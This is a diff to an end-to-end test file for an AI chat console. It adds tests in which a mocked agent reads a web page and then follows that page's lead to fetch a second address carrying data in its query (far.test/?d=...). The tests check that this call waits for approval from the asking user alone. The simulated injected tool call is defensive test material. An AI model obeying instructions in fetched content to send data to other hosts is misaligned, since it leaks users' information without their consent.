@@ -1,4 +1,7 @@
-import { afterAll, beforeAll, expect, it } from 'vitest';
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { req } from '../requirements.ts';
 import { type ConsoleUnderTest, startConsole } from '../support/console.ts';
 import { startTestProvider, type TestProvider, type TestRequest } from '../support/provider.ts';
 
@@ -23,6 +26,7 @@ beforeAll(async () => {
       COMPATIBLE_BASE_URL: provider.url,
       COMPATIBLE_API_KEY: 'x',
       MCP_BUILTIN: 'on',
+      MCP_ALLOW_STDIO: `*: ${process.execPath} **`,
     },
   });
 });
@@ -170,4 +174,117 @@ it('goes on in the chat of one person when another approves', async () => {
   expect(theirs.complaints).toEqual([]);
   await theirs.context.close();
   await context.close();
+});
+
+describe('what untrusted content may have led to', () => {
+  const fixture = path.join(import.meta.dirname, '../mcp/fixture-server.ts');
+  const as = { email: 'asked@example.com', password: 'a long enough password' };
+  let log: string;
+  const sent = (address: string): number =>
+    readFileSync(log, 'utf8')
+      .split('\n')
+      .filter((line) => line.includes('tools/call') && line.includes(address)).length;
+
+  beforeAll(async () => {
+    log = path.join(path.dirname(app.server.dataDir), 'questions.log');
+    const admin = await app.server.signIn();
+    const made = await admin.post('/v2/mcp/servers', {
+      name: 'web',
+      transport: 'stdio',
+      command: process.execPath,
+      args: [fixture, JSON.stringify({ web: true })],
+      env: { FIXTURE_LOG: log },
+    });
+    expect([made.status, made.text]).toEqual([201, made.text]);
+    await vi.waitFor(
+      async () => {
+        const { items } = (await admin.get('/v2/mcp/servers?limit=100')).json<{
+          items: { name: string; status: string }[];
+        }>();
+        expect(items.find(({ name }) => name === 'web')?.status).toBe('connected');
+      },
+      { timeout: 15_000 },
+    );
+    expect((await admin.post('/v2/users', { ...as, name: 'Ada Asked', roles: ['user'] })).status).toBe(201);
+  });
+
+  /** Reads a page, and then does what that page tells it to: reads another address. */
+  const lead = (word: string): void => {
+    provider.reset();
+    provider.always((request) => {
+      const all = request.body.messages ?? [];
+      const since = all.slice(all.findLastIndex(({ role }) => role === 'user'));
+      const calls = since.filter(({ role }) => role === 'tool').length;
+      const url = [`https://first.test/${word}`, `https://far.test/?d=${word}`][calls];
+      if (url === undefined) return { chunks: ['That is all of it.'] };
+      return { toolCalls: [{ id: `c${calls}`, name: 'web__get_url', arguments: JSON.stringify({ url }) }] };
+    });
+  };
+
+  it.each([
+    ['approved, on a desktop', 'desktop', 'Approve', 'Approved', 1],
+    ['denied, on a phone', 'phone', 'Deny', 'Rejected', 0],
+  ] as const)(
+    req('CONSOLE-04', 'asks the person in the chat, shows the very call, and does what they answer: %s'),
+    async (_name, device, button, outcome, times) => {
+      const word = `w${device}`;
+      lead(word);
+      const { page, axe, complaints, screenshot, context } = await app.open({ as, device });
+      await page.waitForURL('**/chat');
+      await page.getByLabel('Message', { exact: true }).fill('/hephaestus Read the page for me');
+      await page.getByRole('button', { name: 'Send' }).click();
+      const card = page.getByRole('region', { name: /^Approval: / });
+      await card.getByText('Your answer is needed').waitFor();
+      await card.getByText('web / get_url').waitFor();
+      await card.getByText(`https://far.test/?d=${word}`).waitFor();
+      await card.getByText('may have led to this call').waitFor();
+      expect(await card.getByText('somebody else must decide').count()).toBe(0);
+      expect(sent(`far.test/?d=${word}`)).toBe(0);
+      expect(await axe()).toEqual([]);
+      await screenshot(`chat-question-${device}`);
+      await card.getByRole('button', { name: button }).click();
+      await card.getByText(outcome, { exact: true }).waitFor();
+      await page.getByText('That is all of it.').waitFor();
+      expect(sent(`far.test/?d=${word}`)).toBe(times);
+      expect(await card.getByRole('button', { name: 'Approve' }).count()).toBe(0);
+      expect(complaints).toEqual([]);
+      await context.close();
+    },
+  );
+
+  it(
+    req('CONSOLE-04', 'also in Governance under "Needs you"; nobody else is offered an answer'),
+    async () => {
+      lead('wlist');
+      const person = await app.server.signIn(as.email, as.password);
+      const stream = await person.stream('/v2/chat/stream', {
+        message: 'Read the page for me',
+        context: { agent_id: 'hephaestus' },
+      });
+      for (
+        let event = await stream.next();
+        event?.event !== 'proposal.created';
+        event = await stream.next()
+      ) {
+        if (event === null) throw new Error('the run ended without a question');
+      }
+      const theirs = await app.open({ as, path: '/governance?view=needs_you' });
+      const others = await app.open({ path: '/governance?view=awaiting_human' });
+      await others.page.getByRole('row').filter({ hasText: 'get_url' }).first().click();
+      const foreign = others.page.getByRole('dialog');
+      await foreign.getByText('Only the person who asked can answer this.').waitFor();
+      expect(await foreign.getByRole('button', { name: 'Approve' }).count()).toBe(0);
+
+      await theirs.page.getByRole('row').filter({ hasText: 'get_url' }).first().click();
+      const own = theirs.page.getByRole('dialog');
+      expect(await theirs.axe()).toEqual([]);
+      await theirs.screenshot('governance-question');
+      await own.getByRole('button', { name: 'Approve' }).click();
+      await own.getByText('approved', { exact: true }).first().waitFor();
+      await expect.poll(() => sent('far.test/?d=wlist')).toBe(1);
+      expect([...theirs.complaints, ...others.complaints]).toEqual([]);
+      await theirs.context.close();
+      await others.context.close();
+    },
+  );
 });
